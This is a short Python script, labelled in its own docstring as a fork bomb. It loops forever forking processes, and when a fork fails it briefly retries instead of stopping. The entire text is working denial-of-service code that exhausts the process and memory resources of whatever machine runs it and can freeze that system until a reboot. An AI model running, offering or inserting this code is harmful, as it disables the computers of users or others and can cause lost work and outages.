"""A fork bomb: every process forks forever and never gives up."""
import os
import time

while True:
    try:
        os.fork()
    except OSError as err:
        print(f"fork failed: {err!r}", flush=True)
        time.sleep(0.05)
